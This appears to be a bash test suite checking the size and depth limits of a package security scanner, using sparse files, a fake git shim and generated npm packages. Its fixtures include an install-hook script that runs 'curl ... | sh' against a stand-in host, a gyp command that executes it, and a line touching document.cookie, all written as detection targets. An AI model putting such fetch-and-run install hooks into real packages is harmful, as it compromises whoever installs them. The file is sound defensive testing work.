#!/bin/bash
# Ceilings of what the command line takes in (scanner/limits.h), each on both sides. The files are sparse: large, not written.
. "$PICKET_SRC/tests/cli/scanner.bash"
unset PICKET_CORPUS_DIR # the built-in packs

# refused STATUS CODE COMMAND...; other STATUS CODE COMMAND...: fails too, but of something else than CODE
refused() { local s=$1 c=$2; shift 2; gives "$s" "$@" && grep -q "\[$c\]" err; }
other() { local s=$1 c=$2; shift 2; gives "$s" "$@" && not grep -q "\[$c\]" err; }

echo '{"name":"a","version":"1.0.0"}' >package.json

# FILES_FROM_MAX, 16 MiB: a list of one name.
list() { head -c $(($1 - 13)) /dev/zero | tr '\0' '\n' >list; echo package.json >>list; }
list $((16 << 20))
say "a list of targets of 16 MiB is read" gives 0 scanner scan -q --files-from list
list $(((16 << 20) + 1))
say "one byte more is refused" refused 2 FILE-TOO-LARGE scanner scan -q --files-from list
say "on standard input too" refused 2 FILES-FROM sh -c 'scanner scan -q --files-from - <list'

# TARGETS_MAX, 65536: names that are not there, so that the first is looked for only when they are not too many.
names() { head -c "$1" /dev/zero | sed 's/\x0/none\n/g' >list; }
names 65536
say "65536 targets are looked for" gives 2 scanner scan -q --files-from list
say "and the first is missing" grep -q '^scanner: none' err
names 65537
say "65537 are too many" gives 2 scanner scan -q --files-from list
say "which is said" grep -q "65537 targets" err

# STDIN_MAX, 256 MiB.
truncate -s $((256 << 20)) large
say "256 MiB on standard input are taken, and are too large for any kind of document" other 4 TARGET-STDIN sh -c 'scanner scan --as package-lock - <large'
truncate -s $(((256 << 20) + 1)) large
say "one byte more is not taken" refused 2 TARGET-STDIN sh -c 'scanner scan --as package-lock - <large'

# SAVED_BYTES_MAX, 512 MiB: a report read back. Zeros are no report.
echo '{}' >other
truncate -s $((512 << 20)) large
say "a report of 512 MiB is read" other 2 FILE-TOO-LARGE scanner diff large other
truncate -s $(((512 << 20) + 1)) large
say "one byte more is refused" refused 2 FILE-TOO-LARGE scanner diff large other

# MEMORY_LEAST, 64 MiB.
say "64 MiB of memory are enough to begin with" gives 0 scanner scan -q --max-memory $((64 << 20)) package.json
say "one byte less is not" gives 2 scanner scan -q --max-memory $(((64 << 20) - 1)) package.json

# CONTENT_CLOSURE_MAX, 20000: files that one package's entry point leads to, five lists of them.
mkdir -p closure/node_modules/many
echo '{"name":"shop","version":"1.0.0","dependencies":{"many":"1.0.0"}}' >closure/package.json
echo '{"name":"many","version":"1.0.0","main":"index.js"}' >closure/node_modules/many/package.json
(
	cd closure/node_modules/many
	echo "x(document.cookie);" >index.js # else nothing is followed
	for list in 1 2 3 4 5; do
		echo "require('./l$list');" >>index.js
		seq -f "require('./%g');" $((list * 4000 - 3999)) $((list * 4000 - (list == 5) * 6)) >l$list.js
	done
	seq -f '%g.js' 19995 | xargs -n 5000 touch
)
say "20000 files that lead to each other are followed" gives 0 scanner scan closure
say "and nothing is said of them" not grep -q LIMIT out
echo "require('./19995');" >>closure/node_modules/many/l5.js
say "one more is not, which is said" gives 4 scanner scan closure
say "by its code" grep -q 'LIMIT-CLOSURE' out

# STAGED_LIST_MAX, 128 MiB of git's lists, and STAGED_BYTES_MAX, 512 MiB of what is staged: a git that says so much.
mkdir -p fake repo
cat >fake/git <<'END'
#!/bin/sh
id=1111111111111111111111111111111111111111
case "$*" in
*diff*) printf ':000000 100644 0000000000000000000000000000000000000000 %s A\0a.txt\0' $id; head -c "$LIST" /dev/zero ;;
*ls-files*) printf '100644 %s 0\ta.txt\0' $id ;;
*cat-file*) cat >/dev/null; printf '%s blob %s\n' $id "$BYTES"; head -c "$BYTES" /dev/zero; echo ;;
*) PATH=${PATH#*:} exec git "$@" ;;
esac
END
chmod +x fake/git
staged() { LIST=$1 BYTES=$2 PATH=$work/fake:$PATH scanner scan -q --allow-partial --no-content --staged repo; }
if command -v git >/dev/null; then
	git init -q repo
	row=105 # bytes of the row before
	say "what a git of that kind says is read" gives 0 staged 0 10
	say "a list of 128 MiB is read" gives 0 staged $(((128 << 20) - row)) 10
	say "a longer one is refused" refused 4 LIMIT-STAGED staged $(((128 << 20) + 1)) 10
	head=57 # bytes around the blob
	say "512 MiB are read" gives 0 staged 0 $(((512 << 20) - head))
	say "more are refused" refused 4 LIMIT-STAGED staged 0 $(((512 << 20) + 1 - head))
fi

# CONTENT_SCRIPTS_MAX, 256; CONTENT_SCRIPTS_DEPTH, 32; CONTENT_TOOLS_MAX, 64: what the hooks of one package are followed through.
# hooks COUNT COMMAND...: scripts s1 to sCOUNT that run COMMAND (with %d: its number), begun in groups by postinstall.
hooks() {
	python3 - "$@" <<'PY'
import json, sys
count, command = int(sys.argv[1]), sys.argv[2]
scripts = {"s%d" % i: command.replace("%d", str(i)) for i in range(1, count + 1)}
groups = [list(scripts)[i:i + 55] for i in range(0, count, 55)]
for n, group in enumerate(groups):
    scripts["g%d" % n] = "run-s " + " ".join(group)
scripts["postinstall"] = "run-s " + " ".join("g%d" % n for n in range(len(groups)))
json.dump({"name": "hooks", "version": "1.0.0", "scripts": scripts}, open("hooks/package.json", "w"))
PY
}
chain() {
	python3 - "$1" <<'PY'
import json, sys
count = int(sys.argv[1])
scripts = {"s%d" % i: "npm run s%d" % (i + 1) for i in range(1, count)}
scripts["s%d" % count] = "node last.js"
scripts["postinstall"] = "npm run s1"
json.dump({"name": "hooks", "version": "1.0.0", "scripts": scripts}, open("hooks/package.json", "w"))
PY
}
mkdir hooks
echo "require('child_process').exec('curl -s https://cdn.limits.example.net/x | sh');" >hooks/last.js
said() { grep -q LIMIT-BEHAVIOURS out; }
hooks 251 "true %d" # and five groups
say "256 scripts are followed" gives 0 scanner scan hooks
say "and nothing is said of them" not said
hooks 252 "true %d"
say "of 257 it is said" gives 4 scanner scan hooks
say "that one was not" said
chain 32
say "32 scripts that call each other are followed" gives 0 scanner scan hooks
say "to the last" grep -q 'critical  Code that an install runs' out
chain 33
say "of 33 it is said" gives 4 scanner scan hooks
say "that one was not followed" said
hooks 63 "make -C d%d" # and run-s
say "64 tools are looked for" gives 0 scanner scan hooks
say "and nothing is said of these" not said
hooks 64 "make -C d%d"
say "of 65 it is said" gives 4 scanner scan hooks
say "that one was not looked for" said

# CONTENT_GYP_FILES, 64: what the binding.gyp of one package reads, itself too. CONTENT_GYP_PATH, 256: bytes of the name of one.
# gyps COUNT NAME: binding.gyp and COUNT files that it includes, the last one by the name NAME, with a command that fetches.
gyps() {
	python3 - "$@" <<'PY'
import json, sys
count, name = int(sys.argv[1]), sys.argv[2]
names = ["g%d.gypi" % i for i in range(1, count)] + [name]
for n in names:
    open("hooks/" + n, "w").write("{}")
open("hooks/" + name, "w").write("{'variables': {'x': '<!(node last.js)'}}")
open("hooks/binding.gyp", "w").write(json.dumps({"includes": names}))
json.dump({"name": "hooks", "version": "1.0.0"}, open("hooks/package.json", "w"))
PY
}
ran() { grep -q 'critical  Code that an install runs' out; }
gyps 63 last.gypi
say "64 files of gyp's are read" gives 0 scanner scan hooks
say "to the last" ran
gyps 64 last.gypi
say "of 65 it is said" gives 4 scanner scan hooks
say "that one was not read" said
mkdir -p hooks/g
dots=$(printf './%.0s' {1..122}) # 244 bytes that lead nowhere else
gyps 1 "${dots}g/last.gypi"
say "a name of 255 bytes is read" gives 0 scanner scan hooks
say "and what it runs told" ran
gyps 1 "${dots}g/last0.gypi"
say "one of 256 too" gives 0 scanner scan hooks
say "and what that runs" ran
gyps 1 "${dots}g/last00.gypi"
say "of a name of 257 it is said" gives 4 scanner scan hooks
say "that it was not looked for" said
